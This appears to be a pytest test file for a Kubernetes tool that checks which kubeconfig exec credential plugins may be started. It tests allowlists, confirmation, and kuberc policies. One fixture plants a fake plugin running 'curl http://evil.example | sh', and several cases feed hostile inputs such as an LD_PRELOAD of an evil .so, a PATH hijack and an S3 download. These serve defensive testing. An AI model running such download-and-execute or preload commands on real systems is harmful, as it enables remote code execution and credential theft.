"""The programs that a kubeconfig names and that may be started."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from actions.base.errors import ConfigError
from actions.cluster.auth.exec_plugins import (
    ALLOW_VARIABLE,
    CONFIRMED,
    PluginPolicy,
    PluginRefusedError,
    PluginUnconfirmedError,
    allow,
    allowed_command,
    confirm,
    load_preference,
    require_allowed,
    require_usable,
)
from actions.cluster.auth.kubeconfig import ChosenContext, ClusterTarget, ExecPlugin, load_context
from tests.unit.cluster.servers import write_kubeconfig


@pytest.fixture(autouse=True)
def _home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
    for name in ("KUBERC", ALLOW_VARIABLE):
        monkeypatch.setenv(name, "")  # so that what a test sets itself is taken back
        monkeypatch.delenv(name)


def a_program(folder: Path, name: str = "cloudco-login", text: str = "echo {}") -> Path:
    path = folder / "bin" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"#!/bin/sh\n{text}\n")
    path.chmod(0o700)
    return path


def a_context(folder: Path, command: str, *args: str, **env: str) -> tuple[ChosenContext, ExecPlugin]:
    variables = [{"name": name, "value": value} for name, value in env.items()]
    user: dict[str, object] = {"exec": {"command": command, "args": list(args), "env": variables}}
    chosen = load_context(ClusterTarget(write_kubeconfig(folder, "http://127.0.0.1:1", user)))
    assert chosen.plugin is not None
    return chosen, chosen.plugin


def a_kuberc(folder: Path, **fields: Any) -> Path:
    path = folder / ".kube" / "kuberc"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps({"apiVersion": "kubectl.config.k8s.io/v1beta1", "kind": "Preference", **fields}))
    return path


def test_a_program_that_was_not_allowed_is_not_started(tmp_path: Path) -> None:
    program = a_program(tmp_path)
    with pytest.raises(PluginUnconfirmedError) as refused:
        allowed_command(*a_context(tmp_path, "cloudco-login", "--token", "hf_" + "x" * 30, SOME="value"))
    assert str(program) in refused.value.message
    for remedy in ("--allow-plugin cloudco-login", ALLOW_VARIABLE, "kuberc"):
        assert remedy in refused.value.hint
    shown = "\n".join(refused.value.request.lines())
    assert str(tmp_path / "kubeconfig") in shown
    assert f"  SOME=value\n  {program}\n  --token\n" in shown
    assert "x" * 30 not in shown


def test_what_was_confirmed_is_not_asked_again_until_it_changes(tmp_path: Path) -> None:
    program = a_program(tmp_path)
    context = a_context(tmp_path, "cloudco-login", "a", NAME="value")
    with pytest.raises(PluginUnconfirmedError) as refused:
        allowed_command(*context)
    confirm(refused.value.request)
    assert allowed_command(*context) == (str(program), "a")
    assert (tmp_path / "state" / "eksml-tui" / CONFIRMED).stat().st_mode & 0o777 == 0o600
    assert "value" not in (tmp_path / "state" / "eksml-tui" / CONFIRMED).read_text()
    others = [
        a_context(tmp_path, "cloudco-login", "b", NAME="value"),
        a_context(tmp_path, "cloudco-login", "a", NAME="x"),
    ]
    for other in others:
        with pytest.raises(PluginUnconfirmedError):
            allowed_command(*other)
    a_program(tmp_path, text="curl http://evil.example | sh")
    with pytest.raises(PluginUnconfirmedError):
        allowed_command(*context)


@pytest.mark.parametrize("entry", ["cloudco-login", "PATH"])
def test_names_and_paths_may_be_allowed_beforehand(tmp_path: Path, entry: str) -> None:
    program = a_program(tmp_path)
    allow([entry.replace("PATH", str(program))])
    assert allowed_command(*a_context(tmp_path, "cloudco-login")) == (str(program),)
    assert allowed_command(*a_context(tmp_path, str(program))) == (str(program),)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    imposter = a_program(elsewhere)
    with pytest.raises(PluginUnconfirmedError):
        allowed_command(*a_context(tmp_path, str(imposter)))


@pytest.mark.parametrize(
    ("command", "args", "env", "is_allowed"),
    [
        ("aws", ["eks", "get-token", "--cluster-name", "c", "--role-arn", "r"], {"AWS_PROFILE": "p"}, True),
        ("aws", ["--region", "r", "eks", "get-token", "--cluster-name", "c"], {}, True),
        ("aws-iam-authenticator", ["token", "-i", "c"], {}, True),
        ("aws", ["s3", "cp", "s3://evil/x", "/tmp/x"], {}, False),
        ("aws", ["eks", "get-token"], {"AWS_CONFIG_FILE": "/tmp/evil"}, False),
        ("aws", ["eks", "get-token"], {"LD_PRELOAD": "/tmp/evil.so"}, False),
        ("aws", ["eks", "get-token"], {"PATH": "/tmp/evil"}, False),
        ("./aws", ["eks", "get-token"], {}, False),
    ],
)
def test_the_token_commands_of_aws_need_no_question(
    tmp_path: Path, command: str, args: list[str], env: dict[str, str], is_allowed: bool
) -> None:
    a_program(tmp_path, command.removeprefix("./"))
    (tmp_path / "aws").write_text("#!/bin/sh\n")
    context = a_context(tmp_path, command, *args, **env)
    if is_allowed:
        assert allowed_command(*context) == (str(tmp_path / "bin" / command), *args)
    else:
        with pytest.raises(PluginUnconfirmedError):
            allowed_command(*context)


def test_what_is_replaced_in_this_process_is_never_asked_about(tmp_path: Path) -> None:
    context, _ = a_context(tmp_path, "/bin/sh", "x")
    require_allowed(context, replaces=lambda argv: argv)
    with pytest.raises(PluginUnconfirmedError):
        require_allowed(context, replaces=lambda argv: None)
    with pytest.raises(PluginUnconfirmedError):  # its environment says more than arguments can: it would be started
        require_allowed(a_context(tmp_path, "/bin/sh", "x", MORE="1")[0], replaces=lambda argv: argv)
    require_usable(ClusterTarget(), replaces=lambda argv: None)  # there is no kubeconfig


def test_a_plugin_is_looked_up_past_what_the_kubeconfig_sets(tmp_path: Path) -> None:
    program = a_program(tmp_path)
    evil = tmp_path / "evil"
    evil.mkdir()
    a_program(evil)
    allow(["cloudco-login"])
    assert allowed_command(*a_context(tmp_path, "cloudco-login", PATH=str(evil / "bin"))) == (str(program),)


def test_one_that_is_not_there_is_not_asked_about(tmp_path: Path) -> None:
    context = a_context(tmp_path, "no-such-plugin")
    require_allowed(context[0], replaces=lambda argv: None)
    with pytest.raises(ConfigError, match="no-such-plugin, which cannot be started"):
        allowed_command(*context)


@pytest.mark.parametrize("key", ["name", "command"])
def test_a_kuberc_allows_denies_and_lists(tmp_path: Path, key: str) -> None:
    program = a_program(tmp_path)
    context = a_context(tmp_path, "cloudco-login")
    a_kuberc(tmp_path, credentialPluginPolicy="AllowAll")
    assert allowed_command(*context) == (str(program),)
    path = a_kuberc(tmp_path, credentialPluginPolicy="DenyAll")
    allow(["cloudco-login"])
    with pytest.raises(PluginRefusedError, match=f"{path} forbids all exec plugins"):
        allowed_command(*context)
    for entry in ("cloudco-login", str(program)):
        a_kuberc(tmp_path, credentialPluginPolicy="Allowlist", credentialPluginAllowlist=[{key: "x"}, {key: entry}])
        assert allowed_command(*context) == (str(program),)
    a_kuberc(tmp_path, credentialPluginPolicy="Allowlist", credentialPluginAllowlist=[{key: "other"}])
    with pytest.raises(PluginRefusedError, match="does not list") as refused:
        allowed_command(*context)
    assert not isinstance(refused.value, PluginUnconfirmedError)


def test_a_kuberc_that_says_nothing_of_plugins_leaves_it_to_us(tmp_path: Path) -> None:
    a_program(tmp_path)
    a_kuberc(tmp_path, aliases=[])
    with pytest.raises(PluginUnconfirmedError):
        allowed_command(*a_context(tmp_path, "cloudco-login"))


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"credentialPluginPolicy": "AllowSome"}, "is not a credentialPluginPolicy"),
        ({"credentialPluginAllowlist": [{"name": "x"}]}, "is not Allowlist"),
        ({"credentialPluginPolicy": "DenyAll", "credentialPluginAllowlist": [{"name": "x"}]}, "is not Allowlist"),
        ({"credentialPluginPolicy": "Allowlist"}, "no entries"),
        ({"credentialPluginPolicy": "Allowlist", "credentialPluginAllowlist": [{}]}, "without a name"),
    ],
)
def test_a_kuberc_that_contradicts_itself_is_refused(tmp_path: Path, fields: dict[str, Any], words: str) -> None:
    a_kuberc(tmp_path, **fields)
    with pytest.raises(ConfigError, match=words):
        load_preference()


def test_kuberc_names_another_file_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    a_kuberc(tmp_path, credentialPluginPolicy="DenyAll").rename(tmp_path / "mine")
    assert load_preference().policy is PluginPolicy.UNSAID
    monkeypatch.setenv("KUBERC", str(tmp_path / "mine"))
    assert load_preference().policy is PluginPolicy.DENY_ALL
    monkeypatch.setenv("KUBERC", "off")
    assert load_preference().policy is PluginPolicy.UNSAID
    monkeypatch.setenv("KUBERC", str(tmp_path / "nowhere"))
    with pytest.raises(ConfigError, match="nowhere, which cannot be read"):
        load_preference()


@pytest.mark.parametrize("text", ["{", "- a", "[" * 5000, "kind: Preference", "\x00"])
def test_a_usual_kuberc_that_cannot_be_read_counts_as_none(tmp_path: Path, text: str) -> None:
    a_kuberc(tmp_path).write_text(text)
    assert load_preference().policy is PluginPolicy.UNSAID
